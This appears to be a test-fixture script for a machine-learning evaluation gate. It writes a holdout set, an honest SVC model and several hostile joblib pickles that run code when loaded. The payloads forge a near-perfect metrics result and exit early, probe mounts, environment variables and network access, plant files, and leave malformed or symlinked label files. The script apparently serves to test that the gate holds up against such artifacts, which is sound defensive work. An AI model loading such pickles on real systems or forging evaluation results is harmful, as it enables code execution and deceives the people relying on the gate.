# SPDX-License-Identifier: Apache-2.0
"""Writes gate data, an honest champion and hostile candidates to a claim, and prints the digest of each file.

A hostile candidate is a pickle that runs code when it is loaded; the name `model` after it is what is loaded.
"""

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from sklearn.datasets import load_digits
from sklearn.svm import SVC

ROOT = Path("/mnt/claim")


class Hostile:
    """Unpickles to whatever `code` leaves in the name `model`."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return (eval, (f"(lambda names: (exec({self.code!r}, names), names.get('model'))[1])({{}})",))


ZEROS = """
class Zeros:
    def predict(self, inputs):
        return [0] * len(inputs)
model = Zeros()
"""

FORGES = """
import json, os
names = os.environ
result = {"v": 1, "uid": names.get("MLOPS_RUN_UID", "UID"), "counts": {"all": 597}, "metrics": {
    "accuracy.candidate": 0.9999, "accuracy.baseline": 0.5, "accuracy.difference": 0.4999,
    "accuracy.lower": 0.45, "accuracy.upper": 0.55}}
for path in (names.get("MLOPS_RESULT_PATH"), "/dev/termination-log"):
    if path:
        try:
            open(path, "w").write(json.dumps(result))
        except OSError:
            pass
os._exit(0)
"""

FORGES_AND_FAILS = FORGES.replace("os._exit(0)", "os._exit(1)")

SPIES = (
    """
import os, socket
found = []
for root in ("/mnt/rows", "/mnt/baseline", "/mnt/pvc", "/mnt/predictions/baseline", "/mnt/candidate"):
    if os.path.exists(root):
        found.append("sees " + root)
for path in ("/mnt/predictions/baseline/labels.npy", "/mnt/inputs/inputs.npy", "/mnt/model/planted", "/mnt/planted"):
    try:
        open(path, "wb").write(b"planted")
        found.append("writes " + path)
    except OSError:
        pass
found += ["knows " + name for name in os.environ if name.startswith("MLOPS_")]
found += ["claim " + line.split()[1] for line in open("/proc/mounts") if "pvc" in line]
for family in (socket.AF_INET, socket.AF_INET6):
    try:
        socket.socket(family)
        found.append("has the network")
    except PermissionError:
        pass
open("/tmp/planted", "w").write("for the next container")
if found:
    raise RuntimeError("; ".join(found))
"""
    + ZEROS
)

LEAVES = {
    "link": "os.symlink('/mnt/inputs/inputs.npy', labels)",
    "fifo": "os.mkfifo(labels)",
    "folder": "os.mkdir(labels)",
    "oversized": "open(labels, 'wb').write(header); os.truncate(labels, 1 << 36)",
    "short": "numpy.save(labels, numpy.zeros(3, dtype=int))",
    "pickle": "numpy.save(labels, numpy.array([object()] * ROWS, dtype=object), allow_pickle=True)",
    "text": "numpy.save(labels, numpy.array(['a'] * ROWS))",
}


def leaves(statement: str, rows: int) -> str:
    return f"""
import io, os, numpy
ROWS = {rows}
stream = io.BytesIO()
numpy.lib.format.write_array_header_1_0(stream, {{"shape": (ROWS,), "fortran_order": False, "descr": "<i8"}})
header, labels = stream.getvalue(), "/mnt/predictions/labels.npy"
{statement}
os._exit(0)
"""


digits = load_digits()
rows, features = digits.target[898:], digits.data[898:]
(ROOT / "gate").mkdir(parents=True)
(ROOT / "models").mkdir()
(ROOT / "data").mkdir()
np.savez(ROOT / "gate" / "holdout.npz", X=features, y=rows)
np.savez(ROOT / "data" / "train.npz", X=digits.data[:898], y=digits.target[:898])
os.symlink("../gate/holdout.npz", ROOT / "data" / "link.npz")
models = {
    "honest": SVC(gamma=0.001).fit(digits.data[:898], digits.target[:898]),
    "forges": Hostile(FORGES),
    "forges-and-fails": Hostile(FORGES_AND_FAILS),
    "spies": Hostile(SPIES),
    "no-predict": {"no": "model"},
    **{name: Hostile(leaves(statement, len(rows))) for name, statement in LEAVES.items()},
}
digests = {}
for name, model in models.items():
    path = ROOT / "models" / f"{name}.joblib"
    joblib.dump(model, path)
    digests[name] = "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()
digests["holdout"] = "sha256:" + hashlib.sha256((ROOT / "gate" / "holdout.npz").read_bytes()).hexdigest()
print(json.dumps(digests))
